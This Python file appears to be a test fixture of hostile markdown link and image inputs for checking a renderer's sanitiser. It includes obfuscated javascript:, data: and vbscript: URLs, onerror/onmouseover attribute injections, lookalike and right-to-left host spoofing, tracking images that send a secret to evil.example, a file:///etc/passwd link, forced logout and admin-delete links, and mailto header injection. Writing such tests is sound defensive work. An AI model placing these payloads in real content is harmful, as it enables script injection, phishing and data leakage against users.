"""Links and images that lead elsewhere than they seem to, run something, or tell somebody who reads."""

SCHEMES = {
    "javascript": "[read more](javascript:alert('link'))",
    "javascript in mixed case": "[read more](JaVaScRiPt:owned=1)",
    "javascript after a blank": "[read more]( javascript:owned=1)",
    "javascript after a control character": "[read more](\x01javascript:owned=1)",
    "javascript with a tab": "[read more](java\tscript:owned=1)",
    "javascript with an entity for a tab": "[read more](java&Tab;script&colon;owned=1)",
    "javascript with a new line entity": "[read more](<java&NewLine;script:owned=1>)",
    "javascript in entities": "[read more](&#106;&#x61;&#0000118;ascript&#58;owned=1)",
    "javascript in per cent": "[read more](javascript%3Aowned=1) [and](%6aavascript:owned=1)",
    "javascript with a comment": "[read more](javascript://evil.example/%0aowned=1)",
    "javascript with a soft hyphen": "[read more](java\u00adscript:owned=1)",
    "javascript with a zero-width space": "[read more](\u200bjavascript:owned=1)",
    "javascript in wide letters": "[read more](\uff4aavascript:owned=1)",
    "javascript in a reference": "[read more][j]\n\n[j]: javascript:owned=1 'title'",
    "javascript as an automatic link": "<javascript:owned=1> javascript:owned=1",
    "vbscript": "[read more](vbscript:msgbox(1)) [or](VBSCRIPT:x)",
    "data": "[read more](data:text/html,<script>owned=1</script>)",
    "data in base64": "[read more](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+)",
    "data as svg": "![chart](data:image/svg+xml,<svg/onload=owned=1>)",
    "blob and file": "[read](blob:http://127.0.0.1/x) [me](file:///etc/passwd) [too](filesystem:http://x/y)",
    "view-source": "[read](view-source:https://evil.example) [on](about:blank#owned) [x](chrome://settings)",
    "other programs": "[call](tel:+3900) [write](sms:+3900) [play](steam://run/1) [open](ms-word:ofe|u|https://evil.example/x.docm)",
}

PLACES = {
    "this site": "[press](/logout/) [and](/admin/auth/user/1/delete/) [then](?archive=1) [up](../../logout/)",
    "this page": "[see below](#composer) [and](#m-1) [or]()",
    "without a scheme": "[read](//evil.example/path) [on](\\\\evil.example\\path) [and](/\\evil.example)",
    "with too few slashes": "[read](https:evil.example) [on](http:/evil.example) [and](https:///evil.example)",
    "another host in the text": "[https://bank.example/login](https://evil.example/login)",
    "another host before the at": "https://bank.example@evil.example/ and [x](https://bank.example%2F@evil.example)",
    "letters of another alphabet": "[bank](https://b\u0430nk.example) https://\u0430pple.example/",
    "dots of another kind": "https://bank\u3002example\uff0eevil\uff61example/ [x](https://bank.example\u2024evil.example)",
    "reversed": "[\u202eelpmaxe.knab//:sptth\u202c](https://evil.example)",
    "reversed and never closed": "[\u202eread](https://evil.example/a) [\u2067on](https://evil.example/b)",
    "a host of 300 letters": "[x](https://" + "a" * 300 + ".evil.example) https://" + "b" * 300 + ".example",
    "a host of 200 parts": "[x](https://" + "a." * 200 + "evil.example)",
    "number for an address": "[x](https://2130706433/) [y](http://0x7f.1/) [z](http://[::ffff:127.0.0.1]/)",
    "not an address": "[x](http://[::1) [y](https://%zz) [z](http://a b) [w](https://\ud7ff.example:99999999)",
    "quote in the address": '[x](https://a.example/"onmouseover="owned=1) [y](<https://a.example/" onclick="owned=1>)',
    "quote in the title": '[x](https://a.example \'a" onmouseover="owned=1\') [y](https://a.example "<img src=x onerror=owned=1>")',
    "mail to many": "[write](mailto:a@evil.example?bcc=b@evil.example&body=my%20secret%0d%0aX:1) <a@evil.example>",
    "mail that is a script": "<javascript:owned=1@evil.example> [x](mailto:javascript:owned=1)",
}

IMAGES = {
    "remote image": "![pixel](https://evil.example/p.png?secret=42)",
    "remote image in a link": "[![button](https://evil.example/b.png)](https://evil.example/)",
    "remote image by reference": "![pixel][p]\n\n[p]: https://evil.example/p.png",
    "image without a scheme": "![pixel](//evil.example/p.png)",
    "image of this site": "![x](/static/agentron.svg) ![x](/logout/)",
    "image with a script": '![x](javascript:owned=1) ![x]("onerror="owned=1)',
    "image whose text is a tag": '![<img src=x onerror=owned=1>](https://evil.example/x.png "\\" onerror=\\"owned=1")',
    "image in an image": "![a ![b](https://evil.example/b.png) c](https://evil.example/c.png)",
    "image in a heading and a table": "# ![x](https://evil.example/h.png)\n\n| ![y](https://evil.example/t.png) |\n|---|\n| z |",
}

BARE = {
    "bare address and quotes": '“https://evil.example/?q="><img src=x onerror=owned=1>” <https://evil.example/"onx=1>',
    "bare address and brackets": "(https://evil.example/(((((a))))) https://evil.example/]]]](x) https://evil.example/<b>",
    "bare address of two megabytes less": "https://evil.example/" + "a" * 9_000,
    "bare addresses without number": "www.evil.example a@evil.example ftp://evil.example //evil.example " * 60,
    "underlined words around": "_https://evil.example_ **https://evil.example** ~~https://evil.example~~ `https://evil.example`",
}

LINKS = {**SCHEMES, **PLACES, **IMAGES, **BARE}
